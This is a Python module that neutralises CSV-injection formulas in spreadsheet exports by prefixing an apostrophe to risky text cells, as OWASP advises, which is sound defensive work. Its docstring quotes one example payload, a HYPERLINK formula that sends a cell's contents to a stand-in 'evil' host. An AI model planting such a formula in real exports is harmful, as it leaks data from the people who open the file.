"""Text cells made safe for spreadsheets (CSV and XLSX exports, the labelling sample).

Why: an applicant named ``=HYPERLINK("http://evil/?"&A1,"click")`` or a title starting with
``+`` or ``@`` is data to patentq but a formula to Excel, LibreOffice and Google Sheets when the
export is opened (CSV injection, OWASP). OWASP's advice is followed: a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text and never evaluate. Numbers are left as they are (a negative number
is not text), and Parquet exports keep the data untouched.
"""

from __future__ import annotations

#: The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` with a leading apostrophe when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: dict) -> dict:
    return {k: safe_cell(v) for k, v in row.items()}
